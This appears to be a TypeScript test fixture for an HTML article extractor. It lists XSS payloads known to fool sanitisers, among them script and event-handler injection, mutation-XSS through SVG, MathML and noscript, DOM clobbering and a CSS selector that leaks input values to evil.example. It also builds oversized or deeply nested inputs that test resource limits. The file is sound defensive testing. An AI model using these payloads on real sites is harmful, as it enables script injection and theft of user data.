import type { Article } from '../../shared/model/article.ts';
import { bytesOf, holds, opened, refused, textIn, type HostileFile } from './hostile-file.ts';

/** Nothing of an attack became text, and the words around it did. */
const isSafe = (article: Article): boolean => {
  const all = JSON.stringify([article.blocks, article.metadata]);
  return textIn(article).includes('canary') && !/alert\(|javascript:|evil\.example/i.test(all);
};

const page = (body: string): string => `<!doctype html><html><body><p>canary</p>${body}<p>end</p></body></html>`;

/** Markup that a sanitiser or a browser was once fooled by; every one calls `alert(1)` or `evil.example`. */
const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script><script src=//evil.example/x.js></script>',
  'script in a drawing': '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  handler: '<img src=x onerror=alert(1)><body onload=alert(1)><p onclick="alert(1)">text</p>',
  'address that runs': '<a href="javascript:alert(1)">one</a><a href="jav&#x09;ascript:alert(1)">two</a>',
  frame: '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
  'object and embed': '<object data="//evil.example/x"></object><embed src="javascript:alert(1)"><applet code=x>',
  'base address': '<base href="//evil.example/"><a href="x">text</a>',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'style that calls': '<style>@import "//evil.example"; input[value^=a]{background:url(//evil.example/a)}</style>',
  'style of an element': '<p style="background:url(//evil.example/x);behavior:url(//evil.example)">text</p>',
  'data and blob': '<a href="data:text/html,<script>alert(1)</script>">one</a><img src="blob:https://evil.example/1">',
  'conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]--><!--[if gte IE 4]>--><!-->',
  'shadow root': '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  'custom element': '<x-evil onfoo="alert(1)"></x-evil>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noscript in the head': '<head><noscript><img src=x onerror=alert(1)></noscript></head>',
  'raw text': '<textarea></textarea><style></style><xmp></xmp><title></title><noembed><img onerror=alert(1)></noembed>',
  'mutation in mathematics':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation in a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  'mutation in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
  'namespace confusion':
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></desc></svg>',
  'annotation-xml': '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  clobbering:
    '<form id=attributes><input name=attributes><input name=parentNode></form><img name=body><a id=__proto__>x</a>',
  'names of prototypes': '<p __proto__=x constructor=y id=__proto__ class=constructor data-prototype=z>text</p>',
  'template apart': '<template><p>a</template><template><script>alert(1)</template>',
  frameset: '</body><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'processing instruction': '<?xml-stylesheet href="//evil.example/x.css"?>',
  'link that fetches': '<link rel=stylesheet href=//evil.example><link rel=prefetch href=//evil.example/2>',
  media:
    '<video src=//evil.example poster=//evil.example/p><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  dialog: '<dialog open><script>alert(1)</script></dialog><button onclick=alert(1)>x</button>',
  'JSON-LD of prototypes':
    '<script type="application/ld+json">{"@type":"Article","__proto__":{"headline":"alert(1)"}}</script>',
  'JSON-LD that runs': '<script type="application/ld+json">{"@type":"Article","url":"javascript:alert(1)"}</script>',
  'author that runs':
    '<meta name=author content="http://evil.example/"><link rel=canonical href="javascript:alert(1)">',
};

/** Pieces that cost a parser or a walker their square when repeated; in UTF-16 units there is a hundred thousand of each. */
const PIECES = [
  '<div>',
  '<p>',
  '<span>',
  '<b>',
  '<b><p>',
  '<a>',
  '<a href=x>a',
  '<font>a<p>',
  '<table>',
  '<table><tr><td>x',
];
const MORE_PIECES = [
  '<table><a>',
  '<select><option>',
  '<svg>',
  '<math><mi>',
  '<ul><li>x',
  '<dl><dd>',
  '<button>',
  '<form>',
];
const LAST_PIECES = [
  '<h1>',
  '<template>',
  '<!--',
  '<',
  '</',
  '</p>',
  '&amp',
  '&#65;',
  '<br>',
  '<x-y>',
  '<ruby><rt>',
  '<aside>a',
  '<p ',
  '<i><div></i>',
];

const isBounded = (article: Article): boolean => textIn(article).length < 10_000_000;

const repeated = (piece: string) => piece.repeat(Math.ceil(100_000 / piece.length));

/** Web pages (PROMISES §5, html). */
export const htmlFiles: readonly HostileFile[] = [
  ...Object.entries(ATTACKS).map(([name, body]) => opened(`${name}.html`, isSafe, () => page(body))),
  ...[...PIECES, ...MORE_PIECES, ...LAST_PIECES].map((piece, index) =>
    opened(
      `unclosed ${[...piece].map((c) => (/\w/.test(c) ? c : '-')).join('')} ${index}.html`,
      isBounded,
      () => `<html>canary ${repeated(piece)}`,
    ),
  ),
  opened('closed without being open.html', holds('canary'), () =>
    page(`${'<b>'.repeat(9000)}${'</x>'.repeat(90_000)}`),
  ),
  opened('nested tags.html', holds('deep'), () => `<html>${'<div>'.repeat(150_000)}deep`),
  refused('a million nested tags.html', /^html\/too-many-elements$/, () => `<html>${'<div>'.repeat(1_000_001)}`),
  refused(
    'elements made by the parser.html',
    /^html\/too-many-elements$/,
    () => `<html>${Array.from({ length: 5000 }, (_, i) => `<i a=${i}><p>`).join('')}`,
  ),
  refused('many paragraphs.html', /^text\/too-many-paragraphs$/, () => `<html>${'<p>a'.repeat(100_001)}`),
  opened('many attributes.html', holds('canary'), () =>
    page(`<p ${Array.from({ length: 20_000 }, (_, i) => `a${i}=b`).join(' ')}>x`),
  ),
  opened('one long attribute.html', holds('canary'), () =>
    page(`<p class="${'a '.repeat(2_000_000)}" style="${'; '.repeat(500_000)}">x`),
  ),
  opened('references to characters.html', holds('canary'), () => page('&#x41;'.repeat(400_000))),
  opened('references out of range.html', holds('canary'), () => page('&#x110000;&#xD800;&#0;&#x80;&#99999999999999;')),
  opened('zero bytes.html', holds('canary'), () => bytesOf('<!doctype html><p>can', 'ary</p>\uFFFD')),
  opened(
    'a wrong charset.html',
    holds('canary'),
    () => '<!doctype html><meta charset=utf-16><meta charset=nonsense><p>canary',
  ),
  opened(
    'a charset that hides tags.html',
    isSafe,
    () => '<!doctype html><meta charset=utf-7><p>canary +ADw-script+AD4-',
  ),
  opened('a charset that switches.html', holds('canary'), () =>
    bytesOf('<!doctype html><meta charset=iso-2022-jp><p>canary ', [0x1b, 0x28, 0x4a], ' end'),
  ),
  opened('JSON-LD too deep.html', holds('canary'), () =>
    page(`<script type="application/ld+json">${'['.repeat(900_000)}</script>`),
  ),
  opened(
    'a title of spaces.html',
    holds('canary'),
    () => `<!doctype html><title>${' - '.repeat(300_000)}</title><p>canary`,
  ),
  opened('bylines in bylines.html', holds('canary'), () => page('<div class=author rel=author>a'.repeat(5000))),
];
